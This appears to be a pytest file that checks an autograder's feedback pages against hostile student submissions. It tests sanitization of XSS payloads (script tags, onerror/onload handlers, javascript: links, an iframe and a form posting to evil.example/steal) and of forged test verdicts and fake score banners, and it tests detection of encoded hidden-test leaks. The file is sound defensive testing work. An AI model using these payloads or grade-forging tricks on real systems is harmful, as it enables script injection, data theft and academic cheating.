"""Feedback is built only from trusted data (autograder/grading/feedback_page.py).

Each student here has an autograded notebook written by this test the way a hostile grading run could
leave it: every output of every cell prints all hidden-test lines and the hidden inputs, the folder
holds files the kernel wrote (and a link to the source notebook). None of it may reach feedback/: the
page shows the student's own submitted cells and outputs (sanitized, capped), the release version of
the locked cells, one verdict line per test cell and the gradebook's scores. No kernel runs here, so
the gradebook rows are written directly; the real pipeline's feedback is tested in
tests/instructors/test_pipeline.py.
"""
import base64
import copy
import html
import os
import re
import shutil
import subprocess
import sys
import urllib.parse
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.course import ASSIGNMENT, Course
from autograder.grading.feedback_page import MAX_TEXT, MISSING_DETAILS, TAMPER, sanitize_html
from autograder.testcells import read_notebook
from autograder.variants import VARIANTS, make_submission
from autograder.verbs.feedback import course_secrets, feedback, leaked_lines

NOTEBOOK = "assignment"  # the kit's notebook: assignment.ipynb
ROOT = Path(__file__).resolve().parents[2]

POINTS = {"test_softmax": 2, "test_one_hot": 1, "test_sce_loss": 2, "test_sce_grad": 3, "test_relu": 1,
          "test_forward": 2, "test_loss_value": 2, "test_gradients": 4, "test_weight_decay": 2,
          "test_predict": 1, "test_train": 2}
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
HOSTILE_MARKDOWN = (
    "Notes.\n\n<script>alert('MALLORY-SCRIPT')</script>\n\n"
    '<img src="x" onerror="alert(\'MALLORY-ONERROR\')">\n\n'
    '<div class="panel-heading score" style="position:fixed;top:0">Score: 30 / 30</div>\n\n'
    '<iframe src="https://evil.example/MALLORY-IFRAME"></iframe>\n\n'
    '<form action="https://evil.example/steal"><input name="MALLORY-FORM"></form>\n\n'
    '<a href="javascript:alert(\'MALLORY-LINK\')">click</a>\n'
)
PHOTO = base64.b64encode(b"\x89PNG\r\n\x1a\n MALLORY-PHOTO").decode()
SEED = 987654321
TA_NOTE = "NOTE-FOR-TA-ONLY: kernel said passed"
HIDDEN_INPUT = "HIDDEN-INPUT-MARKER array([0.5488135, 0.71518937, 0.60276338])"
quiet = lambda *args, **kwargs: None  # noqa: E731


# ------------------------------------------------------------------------------------------------
# building a graded course without running kernels


def _perfect(course):
    source = read_notebook(course.notebook(course.source))
    release = read_notebook(course.notebook(course.release))
    return make_submission(release, source, VARIANTS["perfect"])


def _cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def _record(cells):
    """The grader's metadata record (reverify.py's format) for {grade_id: (status, message)};
    cells not named passed."""
    record = {"version": 1, "cells": {}, "tamper_cells": [], "notes": [TA_NOTE], "seed": SEED}
    for gid, points in POINTS.items():
        status, message = cells.get(gid, ("passed", ""))
        record["cells"][gid] = {"points": float(points), "score": float(points) if status == "passed" else 0.0,
                                "status": status, "message": message,
                                "in_kernel": "passed" if status == "tamper suspected" else "failed"}
        if status == "tamper suspected":
            record["tamper_cells"].append(gid)
    return record


def _what_a_hostile_run_leaves(nb, secrets):
    """The submission as a hostile grading run could return it: every code cell printed all
    hidden-test lines and the hidden inputs, and raised with them in its traceback."""
    graded = copy.deepcopy(nb)
    everything = "\n".join(sorted(secrets))
    for cell in graded.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                new_output("stream", name="stdout", text=everything + "\n" + HIDDEN_INPUT + "\n"),
                new_output("display_data", data={"text/html": f"<pre>{html.escape(everything)}</pre>",
                                                 "text/plain": HIDDEN_INPUT}),
                new_output("error", ename="AssertionError", evalue=HIDDEN_INPUT,
                           traceback=everything.splitlines()),
            ]
    return graded


def _add_student(course, student, submission, graded, auto, manual=None):
    """Write the submission, the autograded notebook and the gradebook rows ({grade_id: auto score})."""
    from nbgrader.api import Gradebook

    for folder, nb in ((course.submitted(student), submission), (course.autograded(student), graded)):
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(course.notebook(folder)))
    with Gradebook(course.db_url) as gb:
        gb.update_or_create_student(student)
        gb.update_or_create_submission(ASSIGNMENT, student)
        notebook = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student)
        for grade in notebook.grades:
            if grade.name in auto:
                grade.auto_score = float(auto[grade.name])
            if grade.name in (manual or {}):
                grade.manual_score = float(manual[grade.name])
        gb.db.commit()


def _full(**lost):
    return {gid: lost.get(gid, points) for gid, points in POINTS.items()}


def _mallory(course, secrets):
    """Every trick at once: hostile Markdown and outputs in her own notebook, an edited test cell with
    a forged verdict, a cell claiming to be graded, a huge output; a grading run that printed every
    hidden line; files the kernel wrote; verdicts of every kind."""
    nb = _perfect(course)
    relu = _cell(nb, "test_relu")
    relu.source = "pass  # MALLORY-EDITED-TEST"
    relu.outputs = [new_output("stream", name="stdout", text="MALLORY-FORGED-VERDICT test_relu passed\n")]
    nb.cells.insert(1, new_markdown_cell(HOSTILE_MARKDOWN))
    answer = _cell(nb, "derivation")  # her written answer: a pasted photo, and an SVG with a script
    answer.source = "My derivation: ![photo](attachment:photo.png) ![svg](attachment:bad.svg)"
    answer.attachments = {"photo.png": {"image/png": PHOTO},
                          "bad.svg": {"image/svg+xml": "<svg onload=\"alert('MALLORY-ATTACH')\"></svg>"}}
    nb.cells.append(new_code_cell("show()", outputs=[
        new_output("stream", name="stdout", text="MALLORY-PLAIN-OUTPUT\n"),
        new_output("display_data", data={
            "text/html": "<b onclick=\"alert('MALLORY-HTML')\">MALLORY-HTML</b>",
            "application/javascript": "alert('MALLORY-JS')",
            "image/svg+xml": "<svg onload=\"alert('MALLORY-SVG')\"><text>MALLORY-SVG</text></svg>",
            "application/vnd.jupyter.widget-view+json": {"model_id": "MALLORY-WIDGET", "version_major": 2,
                                                         "version_minor": 0},
            "text/plain": "MALLORY-DISPLAY-PLAIN"}),
        new_output("display_data", data={"image/png": PNG},
                   metadata={"image/png": {"width": "1 onerror=alert('MALLORY-WIDTH')"}}),
        new_output("display_data", data={"image/png": "\" onerror=\"alert('MALLORY-PNG')"}),
    ]))
    nb.cells.append(new_code_cell("print('Y' * 10**6)", outputs=[
        new_output("stream", name="stdout", text="Y" * 1_000_000)]))
    bonus = new_code_cell("# MALLORY-BONUS")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
                                  "points": 100, "schema_version": 3}
    nb.cells.append(bonus)
    odd = new_code_cell("# MALLORY-ODD-METADATA")
    odd.metadata["nbgrader"] = "grade me"  # metadata of any shape must not stop her page
    listed = new_code_cell("# MALLORY-LIST-ID")
    listed.metadata["nbgrader"] = {"grade": True, "grade_id": ["test_softmax"], "points": 2}
    nb.cells += [odd, listed]
    graded = _what_a_hostile_run_leaves(nb, secrets)
    graded.metadata["autograder"] = _record({
        "test_softmax": ("failed", "softmax: each row must sum to 1; row 0 sums to 2.0"),
        "test_gradients": ("tamper suspected", "passed in the student's kernel but failed outside it"),
        "test_train": ("timed out", "train did not return within 10 s"),
        "test_predict": ("passed", ""),  # the gradebook says 0: the record is not believed
    })
    _add_student(course, "mallory", nb, graded,
                 _full(test_softmax=0, test_gradients=0, test_train=0, test_predict=0),
                 manual={"test_one_hot": 0.5})
    folder = course.autograded("mallory")
    (folder / "loot.txt").write_text("\n".join(sorted(secrets)))
    (folder / "nested" / "deeper").mkdir(parents=True)
    (folder / "nested" / "deeper" / "loot.py").write_text("\n".join(sorted(secrets)))
    (folder / "source_link.ipynb.txt").symlink_to(course.notebook(course.source))
    stale = course.feedback("mallory")
    stale.mkdir(parents=True)
    (stale / "stale_from_last_term.txt").write_text("old")


MALLORY_LINES = [
    "test_softmax failed: softmax: each row must sum to 1; row 0 sums to 2.0",
    "test_one_hot passed (your grader set this cell's score by hand: 0.5 / 1)",
    "test_sce_loss passed", "test_sce_grad passed", "test_relu passed", "test_forward passed",
    "test_loss_value passed",
    f"test_gradients failed: {TAMPER}",
    "test_weight_decay passed",
    f"test_predict failed: {MISSING_DETAILS}",
    "test_train timed out: train did not return within 10 s",
]


def _unique_secret(secrets):
    """The longest hidden line that contains no other hidden line (so a leak of it counts as one)."""
    return max((line for line in secrets if not any(other != line and other in line for other in secrets)),
               key=len)


def _leaking(course, secret, how):
    """A submission that itself shows one hidden line (got from somewhere), encoded `how`."""
    nb = _perfect(course)
    if how == "plain":
        nb.cells.append(new_code_cell("x", outputs=[new_output("stream", name="stdout", text=secret)]))
    elif how == "base64":
        blob = base64.b64encode(f"{'#' * 7} {secret} trailing".encode()).decode()
        nb.cells.append(new_code_cell("x", outputs=[new_output("stream", name="stdout", text=blob)]))
    elif how == "url":
        nb.cells.append(new_markdown_cell(urllib.parse.quote(secret)))
    elif how == "entities":
        nb.cells.append(new_markdown_cell("".join(f"&#{ord(ch)};" for ch in secret)))
    return nb


LEAKS = ("plain", "base64", "url", "entities")


@pytest.fixture(scope="module")
def fb(released_course, tmp_path_factory):
    course = Course(tmp_path_factory.mktemp("feedback_trust") / "course")
    shutil.copytree(released_course.root, course.root, symlinks=True)
    secrets = course_secrets(course)
    _mallory(course, secrets)

    # Graded before the grader recorded verdicts, and deleted one test cell.
    old = _perfect(course)
    old.cells.remove(_cell(old, "test_predict"))
    _add_student(course, "oldie", old, _what_a_hostile_run_leaves(old, secrets), _full(test_sce_grad=0))

    honest = _perfect(course)
    graded = _what_a_hostile_run_leaves(honest, secrets)
    graded.metadata["autograder"] = _record({})
    _add_student(course, "honest", honest, graded, _full())

    # Collected again after grading, not re-graded: its code is not what the verdicts are about.
    changed = _perfect(course)
    graded = _what_a_hostile_run_leaves(changed, secrets)
    graded.metadata["autograder"] = _record({})
    _add_student(course, "changed", changed, graded, _full())
    _cell(changed, "relu").source = "def relu(X):\n    return X * (X > 0)"
    nbformat.write(changed, str(course.notebook(course.submitted("changed"))))

    secret = _unique_secret(secrets)
    for how in LEAKS:
        nb = _leaking(course, secret, how)
        _add_student(course, f"leak_{how}", nb, copy.deepcopy(nb), _full())

    lines = []
    pages = feedback(course, echo=lines.append)
    return course, secrets, secret, pages, lines


def _page(fb, student):
    course, _, _, pages, _ = fb
    assert pages[student] == course.feedback(student) / f"{NOTEBOOK}.html"
    return pages[student].read_text(encoding="utf-8")


def _text(page):
    """What a reader sees: tags removed, entities decoded."""
    return html.unescape(re.sub(r"<[^>]*>", "", page))


def _verdict_lines(page):
    """The test cells' output lines, in page order."""
    blocks = re.findall(r'<div class="output_subarea output_stream output_std(?:out|err) output_text">'
                        r'\s*<pre>(.*?)</pre>',
                        page, re.S)
    lines = [html.unescape(re.sub(r"<[^>]*>", "", block)).strip() for block in blocks]
    return [line for line in lines if line.startswith("test_")]


def _gradebook_total(course, student):
    from nbgrader.api import Gradebook
    with Gradebook(course.db_url) as gb:
        notebook = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student)
        return float(notebook.score), float(notebook.max_score)


# ------------------------------------------------------------------------------------------------
# nothing from the grading run


def test_nothing_the_grading_run_printed_reaches_the_page(fb):
    course, secrets, _, _, _ = fb
    for student in ("mallory", "oldie", "honest"):
        page = _page(fb, student)
        seen = _text(page)
        assert [line for line in secrets if line in seen or line in page] == [], student
        assert leaked_lines(page, secrets) == [], student
        for marker in ("HIDDEN-INPUT-MARKER", "0.5488135", "BEGIN HIDDEN", "AssertionError"):
            assert marker not in page, (student, marker)


def test_the_graders_record_shows_only_as_verdict_lines(fb):
    page = _page(fb, "mallory")
    assert TA_NOTE not in page and str(SEED) not in page
    assert "passed in the student's kernel" not in page  # the TA's wording of the tamper verdict


def test_feedback_folder_holds_the_html_only(fb):
    course, _, _, _, _ = fb
    for student in ("mallory", "oldie", "honest"):
        assert sorted(os.listdir(course.feedback(student))) == [f"{NOTEBOOK}.html"], student
    assert (course.autograded("mallory") / "loot.txt").is_file()  # it was there to be copied


def test_verdict_lines_come_from_the_grader_and_the_gradebook(fb):
    assert _verdict_lines(_page(fb, "mallory")) == MALLORY_LINES
    assert _verdict_lines(_page(fb, "honest")) == [f"{gid} passed" for gid in POINTS]


def test_without_the_graders_record_the_gradebook_decides_each_line(fb):
    expected = [f"{gid} passed" for gid in POINTS]
    expected[list(POINTS).index("test_sce_grad")] = f"test_sce_grad failed: {MISSING_DETAILS}"
    expected[list(POINTS).index("test_predict")] = "test_predict passed (this cell was missing from your notebook)"
    assert _verdict_lines(_page(fb, "oldie")) == expected


def test_scores_on_the_page_are_the_gradebooks(fb):
    course, _, _, _, _ = fb
    for student in ("mallory", "oldie", "honest"):
        page = _page(fb, student)
        score, max_score = _gradebook_total(course, student)
        # the written answers were never graded by hand: the total is provisional (PendingFeedback)
        header = re.search(r"<h4>assignment: provisional, 3 answers awaiting grading "
                           r"\(Score: ([\d.]+) / ([\d.]+)\)</h4>", page)
        assert header and (float(header[1]), float(header[2])) == (score, max_score), student
    # 22 autograded points (the 8 manual ones are not graded yet), less what she lost
    assert _gradebook_total(course, "mallory") == (22 - 2 - 4 - 2 - 1 - 0.5, 30)
    page = _page(fb, "mallory")
    toc = dict(re.findall(r'<li><a href="#(\w+)">Test cell</a> \(Score: ([\d.]+) / [\d.]+\)</li>', page))
    assert toc == {gid: str(float(points)) for gid, points in _full(
        test_softmax=0, test_gradients=0, test_train=0, test_predict=0, test_one_hot=0.5).items()}
    assert 'href="#bonus"' not in page  # a cell the student marked as graded is not
    assert "MALLORY-BONUS" in page and "MALLORY-ODD-METADATA" in page and "MALLORY-LIST-ID" in page


def test_locked_cells_show_the_release_version(fb):
    course, _, _, _, _ = fb
    seen = _text(_page(fb, "mallory"))
    assert "MALLORY-EDITED-TEST" not in seen and "MALLORY-FORGED-VERDICT" not in seen
    released = _cell(read_notebook(course.notebook(course.release)), "test_relu").source
    assert released.splitlines()[0] in seen


# ------------------------------------------------------------------------------------------------
# the student's own content, made safe


def test_student_markdown_is_sanitized(fb):
    page = _page(fb, "mallory")
    scripts = set(re.findall(r"<script[^>]*>", page))
    assert scripts <= {'<script type="text/x-mathjax-config">',
                       '<script src="https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.7/latest.js'
                       '?config=TeX-AMS_CHTML-full,Safe">'}
    assert re.search(r"<[a-zA-Z][^>]*\son[a-z]+\s*=", page) is None  # no event handler anywhere
    for gone in ("<iframe", "<form", "<input", "javascript:alert", 'style="position:fixed',
                 'class="panel-heading score"'):
        assert gone not in page, gone
    assert "&lt;script&gt;alert('MALLORY-SCRIPT')&lt;/script&gt;" in page.replace("&#39;", "'")  # shown, inert
    assert "<div>Score: 30 / 30</div>" in page  # the fake banner is plain text in her cell


def test_student_outputs_keep_text_and_images_only(fb):
    page = _page(fb, "mallory")
    assert "MALLORY-PLAIN-OUTPUT" in page and "MALLORY-DISPLAY-PLAIN" in page
    for gone in ("MALLORY-HTML", "MALLORY-JS", "MALLORY-SVG", "MALLORY-WIDGET", "MALLORY-WIDTH", "MALLORY-PNG"):
        assert gone not in page, gone
    assert page.count(f'src="data:image/png;base64,{PNG}"') == 1
    assert page.count(f'src="data:image/png;base64,{PHOTO}"') == 1  # her pasted photo
    assert "MALLORY-ATTACH" not in page and "image/svg" not in page


def test_every_output_is_capped(fb):
    page = _page(fb, "mallory")
    assert "Y" * MAX_TEXT in page and "Y" * (MAX_TEXT + 1) not in page
    assert f"({1_000_000 - MAX_TEXT:,} more characters not shown)" in page
    assert len(page) < 1_000_000


def test_sanitizer_keeps_harmless_markup():
    assert sanitize_html('<p><strong>a</strong> <a href="https://x.org" onclick="y">b</a></p>') == \
        '<p><strong>a</strong> <a href="https://x.org">b</a></p>'
    assert sanitize_html('<a href="javascript:alert(1)">b</a><span class="pull-right">c</span>') == \
        "<a>b</a><span>c</span>"


# ------------------------------------------------------------------------------------------------
# the leak scan, defence in depth


@pytest.mark.parametrize("how", LEAKS)
def test_a_page_that_shows_a_hidden_line_is_withheld(fb, how):
    course, _, secret, pages, lines = fb
    student = f"leak_{how}"
    assert pages[student] is None
    assert not (course.feedback(student) / f"{NOTEBOOK}.html").exists()
    assert f"{student}: feedback withheld: the page showed 1 hidden-test line (e.g. {secret[:60]!r}); " \
           "nothing handed out" in lines


def test_a_submission_changed_since_grading_gets_no_page(fb):
    course, _, _, pages, lines = fb
    assert pages["changed"] is None and not course.feedback("changed").exists()
    assert "changed: no feedback: ValueError: changed's submission changed since it was graded (cell relu): " \
           "grade it again first" in lines


def test_honest_pages_are_not_withheld(fb):
    course, _, _, pages, lines = fb
    for student in ("mallory", "oldie", "honest"):
        assert f"{student}: {pages[student]}" in lines


@pytest.mark.parametrize("offset", [0, 1, 2, 5])
def test_the_scan_finds_a_hidden_line_inside_base64_at_any_alignment(fb, offset):
    _, secrets, secret, _, _ = fb
    blob = base64.b64encode(b"x" * offset + secret.encode() + b" and more").decode()
    wrapped = "\n".join(blob[i:i + 76] for i in range(0, len(blob), 76))
    assert leaked_lines(f"<pre>{wrapped}</pre>", secrets) == [secret]
    urlsafe = base64.urlsafe_b64encode(b"x" * offset + secret.encode()).decode()
    assert leaked_lines(f"<pre>{urlsafe}</pre>", secrets) == [secret]
    # a line that differs from the secret only in its last character is not the secret
    assert leaked_lines(base64.b64encode(b"x" * offset + secret[:-1].encode() + b"#").decode(), secrets) == []


def test_the_scan_reads_through_markup_and_double_escaping(fb):
    _, secrets, secret, _, _ = fb
    middle = len(secret) // 2
    highlighted = f'<span class="n">{html.escape(secret[:middle])}</span><span>{html.escape(secret[middle:])}</span>'
    assert leaked_lines(highlighted, secrets) == [secret]
    assert leaked_lines(html.escape(html.escape(secret)), secrets) == [secret]
    assert leaked_lines(urllib.parse.quote_plus(secret), secrets) == [secret]
    assert leaked_lines("nothing to see", secrets) == []


# ------------------------------------------------------------------------------------------------
# the other ways feedback is made or removed


def test_plain_nbgrader_generate_feedback_builds_the_same_trusted_page(fb, tmp_path):
    course = Course(tmp_path / "copy")
    shutil.copytree(fb[0].root, course.root, symlinks=True)
    shutil.rmtree(course.feedback("mallory"))
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    result = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--student",
                             "mallory", "--force"], cwd=course.root, capture_output=True, text=True,
                            timeout=300, env=env)
    assert result.returncode == 0, result.stderr[-2000:]
    assert sorted(os.listdir(course.feedback("mallory"))) == [f"{NOTEBOOK}.html"]
    page = (course.feedback("mallory") / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
    assert _verdict_lines(page) == MALLORY_LINES
    assert leaked_lines(page, fb[1]) == [] and "HIDDEN-INPUT-MARKER" not in page
    assert "MALLORY-SCRIPT')</script>" not in page


def test_a_failed_regrade_removes_the_old_feedback(fb, tmp_path):
    from autograder.grading.job import Outcome
    from autograder.grading.merge import merge

    course = Course(tmp_path / "copy")
    shutil.copytree(fb[0].root, course.root, symlinks=True)
    assert (course.feedback("honest") / f"{NOTEBOOK}.html").is_file()
    merge(course, Outcome("honest", False, "not graded: assignment.ipynb is not a readable notebook"))
    assert not course.feedback("honest").exists()
    assert not course.autograded("honest").exists()
    lines = []
    assert feedback(course, ["honest"], echo=lines.append) == {"honest": None}
    assert lines == ["honest: no feedback: not graded; run `python -m autograder grade --student honest` first"]


def test_the_course_config_wires_the_same_pipeline_as_the_kit(fb):
    from autograder.verbs.feedback import FILTERS, PREPROCESSORS
    config = fb[0].load_config()
    assert list(config.GenerateFeedback.preprocessors) == PREPROCESSORS
    assert dict(config.HTMLExporter.filters) == FILTERS


CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is missing (`make browser-deps` as root installs it)")
def test_a_browser_runs_none_of_the_students_code(fb):
    """The static checks above, confirmed where it matters: the page opened in a real browser shows
    no dialog (every payload calls alert) and has no element that could run or submit anything."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is not installed")
    _page(fb, "mallory")  # it was made
    page_path = fb[0].feedback("mallory") / f"{NOTEBOOK}.html"
    dialogs = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=[
            "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
            "--no-first-run", "--disable-extensions"])
        try:
            page = browser.new_page()
            # no network here: the page's MathJax from its CDN (and anything else) fails at once, not after a timeout
            page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:")
                       else route.abort())
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.goto(page_path.as_uri(), wait_until="load", timeout=60_000)
            page.wait_for_timeout(500)  # an onerror of a broken image fires after load
            risky = page.evaluate("""() => [...document.querySelectorAll('*')].filter(e =>
                ['IFRAME', 'FORM', 'INPUT', 'OBJECT', 'EMBED'].includes(e.tagName) ||
                [...e.attributes].some(a => a.name.startsWith('on')) ||
                (e.tagName === 'A' && (e.getAttribute('href') || '').startsWith('javascript:'))
            ).map(e => e.outerHTML.slice(0, 80))""")
            banners = page.evaluate("""() => [...document.querySelectorAll('h4')]
                .filter(e => e.textContent.includes('Score:')).map(e => e.textContent.trim())""")
        finally:
            browser.close()
    assert dialogs == [] and risky == []
    assert banners == ["assignment: provisional, 3 answers awaiting grading (Score: 12.5 / 30.0)"]
